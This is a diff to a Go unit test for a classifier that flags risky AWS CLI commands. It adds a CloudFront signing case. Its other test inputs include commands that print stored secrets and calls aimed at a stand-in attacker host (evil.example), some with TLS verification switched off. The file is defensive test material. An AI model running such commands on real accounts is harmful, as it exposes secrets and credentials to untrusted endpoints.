@@ -42,6 +42,7 @@ func TestClassify_StatesWhatACommandDoes(t *testing.T) {
 		{"aws secretsmanager get-secret-value --secret-id x", ReadsAWS | ShowsSecrets},
 		{"aws ssm get-parameter --name x --with-decryption", ReadsAWS | ShowsSecrets},
 		{"aws s3 presign s3://bucket/key", ReadsAWS | ShowsSecrets},
+		{"aws cloudfront sign --url https://d.example/x --key-pair-id k --private-key file://k", MayChangeState | ShowsSecrets | OtherEndpoint | ReadsFile},
 		{"aws sts get-caller-identity --endpoint-url https://evil.example", ReadsAWS | OtherEndpoint},
 		{"aws sts get-caller-identity --endp https://evil.example", ReadsAWS | OtherEndpoint},
 		{"aws sts get-caller-identity --no-verify-ssl", ReadsAWS | OtherEndpoint},
